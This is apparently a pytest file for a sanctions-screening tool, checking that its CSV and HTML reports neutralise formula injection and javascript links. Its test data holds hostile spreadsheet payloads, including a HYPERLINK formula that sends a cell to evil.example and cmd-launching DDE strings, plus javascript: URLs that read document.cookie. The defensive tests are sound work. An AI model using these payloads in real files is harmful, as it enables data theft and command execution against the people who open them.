"""Reports cannot be turned against the person who opens them (issue 17, items 2 and 13):
no formula runs from a CSV cell, no script from a link in list data."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from banscreen.model import Explanation, ListEntry, LoadIssue, Match, PartyResult, Subject
from banscreen.report import FORMATS, ReportContext
from banscreen.report.safety import is_http_url, spreadsheet_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_neutralized(value):
    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("ACME Trading") == "ACME Trading" and spreadsheet_cell(7) == 7


def _result(name: str, source_url: str = "") -> PartyResult:
    entry = ListEntry(dataset="custom", list="EL", entry_id="x1", kind="organization", name=name,
                      source_url=source_url, citation="85 FR 1")
    explanation = Explanation(name, name.lower(), name.lower(), (), "unknown")
    return PartyResult(Subject(1, 2, name, source="in.csv"), (Match(entry, "custom@1", name, 1.0, explanation),))


def test_csv_report_writes_no_live_formula():
    out = io.StringIO()
    FORMATS["csv"](screen="parties").write([_result(v) for v in HOSTILE] + [LoadIssue("=cmd.csv", 3, "@bad")], out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    cells = [c for row in rows for c in row if isinstance(c, str)]
    assert rows and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert rows[0][4] == "'" + HOSTILE[0]  # the subject column, kept readable


@pytest.mark.parametrize("url, live", [("https://www.trade.gov/csl", True), ("http://x.example/a", True),
                                       ("javascript:alert(1)", False), ("JaVaScRiPt:alert(1)", False),
                                       ("data:text/html,<script>x</script>", False), ("/relative", False),
                                       ("https:///nohost", False), ("", False)])
def test_only_http_links_are_links(url, live):
    assert is_http_url(url) is live


def test_html_report_renders_a_javascript_link_as_text():
    ctx = ReportContext.build("parties", dt.date(2026, 12, 4), [], [], {}, command="banscreen")
    out = io.StringIO()
    FORMATS["html"](screen="parties", context=ctx).write(
        [_result("ACME", "javascript:alert(document.cookie)"), _result("BETA", "https://www.trade.gov/x")], out)
    page = out.getvalue()
    assert 'href="javascript:' not in page and "javascript:alert(document.cookie)" in page
    assert 'href="https://www.trade.gov/x"' in page


def test_a_deeply_nested_json_lines_row_is_one_error_and_the_rest_is_read(tmp_path):
    """Issue 17, item 7: `[[[[...` used to end the run with RecursionError."""
    from banscreen.sources import read_parties

    f = tmp_path / "p.jsonl"
    f.write_text('{"name": "ZTE Corporation"}\n' + "[" * 200_000 + "\n"
                 + '{"name": "Nested", "x": ' + "[" * 5_000 + "]" * 5_000 + "}\n" + '{"name": "Huawei"}\n')
    items = list(read_parties(f))
    assert [getattr(i, "name", None) for i in items] == ["ZTE Corporation", None, None, "Huawei"]
    assert [i.line for i in items if isinstance(i, LoadIssue)] == [2, 3]
    assert all("nested too deeply" in i.reason for i in items if isinstance(i, LoadIssue))


def test_output_files_are_written_whole_or_not_at_all(tmp_path, bundled_home, monkeypatch):
    """Issue 17, item 14 (in part): -o is written aside and renamed; a run stopped by
    --strict at a bad row keeps the previous file and leaves no partial one."""
    import sys

    from banscreen import cli

    out = tmp_path / "findings.csv"
    out.write_text("previous report\n")
    bad = tmp_path / "bad.csv"
    bad.write_text('name,country\nZTE Corporation,CN\n"broken,CN\n')
    monkeypatch.setattr(sys, "argv", ["banscreen", "screen", "parties", str(bad), "--strict", "-q", "-f", "csv",
                                      "-o", str(out), "--home", str(bundled_home)])
    with pytest.raises(SystemExit) as exc:
        cli.main()
    assert exc.value.code == 2
    assert out.read_text() == "previous report\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
    good = tmp_path / "good.csv"
    good.write_text("name,country\nZTE Corporation,CN\n")
    monkeypatch.setattr(sys, "argv", ["banscreen", "screen", "parties", str(good), "-q", "-f", "csv", "-o", str(out),
                                      "--home", str(bundled_home)])
    with pytest.raises(SystemExit):
        cli.main()
    assert out.read_text().startswith("screen,file,row,line,subject")
